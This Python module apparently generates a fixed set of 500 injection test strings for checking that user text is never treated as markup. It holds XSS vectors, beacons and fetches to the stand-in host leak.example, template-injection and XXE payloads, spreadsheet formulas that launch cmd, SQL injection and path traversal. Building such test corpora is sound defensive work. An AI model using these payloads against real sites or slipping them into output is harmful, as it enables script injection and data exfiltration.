"""Five hundred texts that would run a script or ask for something, were they ever taken for markup."""

from __future__ import annotations

from itertools import product

_CALLS = (
    "alert(1)",
    "window.__ran.push('x')",
    "fetch('http://leak.example/f')",
    "new Image().src='http://leak.example/i'",
    "navigator.sendBeacon('http://leak.example/b')",
)
_RUNNING = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<a href='javascript:{}'>x</a>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<object data='javascript:{}'></object>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<template><script>{}</script></template>",
    "<div hx-get='/x' hx-trigger='load[{}]'>x</div>",
    "<div hx-on:click='{}' data-hx-on='load: {}'>x</div>",
)
_WRAPS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</script>{}",
    "]]>{}",
)
_ASKING = (
    "<img src=http://leak.example/a>",
    "<link rel=stylesheet href=http://leak.example/b>",
    "<style>@import 'http://leak.example/c';*{background:url(http://leak.example/d)}</style>",
    "<meta http-equiv=refresh content='0;url=http://leak.example/e'>",
    "<base href=http://leak.example/>",
    "<iframe src=http://leak.example/g></iframe>",
    "<object data=http://leak.example/h></object>",
    "<embed src=http://leak.example/j>",
    "<video poster=http://leak.example/k src=http://leak.example/l></video>",
    "<svg><image href=http://leak.example/m /><use href='http://leak.example/n#a'/></svg>",
    "<link rel=prefetch href=http://leak.example/o><link rel=dns-prefetch href=//leak.example>",
    "<form action=http://leak.example/p><input name=q></form>",
    "<body background=http://leak.example/q>",
    "<div hx-get=http://leak.example/r hx-trigger=load>x</div>",
    "<div data-hx-post=http://leak.example/s data-hx-trigger=load>x</div>",
)
_ODD = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//leak.example/x",
    "\\\\leak.example\\x",
    'http://leak.example/"onmouseover=alert(1)//',
    "' autofocus onfocus='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=alert(1) `",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "<!--<script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'http://leak.example/x'>]><x>&e;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>\u2066",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<SCRIPT SRC=//leak.example/x.js></SCRIPT>",
    "<svg/onload=alert(1)//",
    "<x onclick=alert(1) tabindex=1 id=x autofocus>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '=HYPERLINK("http://leak.example/x","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE documents; --",
    '" OR 1=1 --',
    "NEAR(a b) OR * AND ^",
    "../../../../etc/hosts",
    "..\\..\\windows\\win.ini",
    "file:///etc/hosts",
    "a\r\nset-cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "[x](javascript:alert(1)) ![x](http://leak.example/y)",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
)
NUMBER = 500


def payloads() -> tuple[str, ...]:
    """Return the texts, each once, in a fixed order."""
    running = (
        wrap.format(form.format(*[call] * form.count("{}")))
        for form, call, wrap in product(_RUNNING, _CALLS, _WRAPS)
    )
    asking = (wrap.format(form) for form, wrap in product(_ASKING, _WRAPS))
    every = dict.fromkeys((*_ODD, *_spread(tuple(asking), 60), *_spread(tuple(running), NUMBER)))
    return tuple(every)[:NUMBER]


def _spread(texts: tuple[str, ...], count: int) -> tuple[str, ...]:
    """Some of the texts, at even distances, so that every form and every wrap is among them."""
    return tuple(texts[n * len(texts) // count] for n in range(min(count, len(texts))))
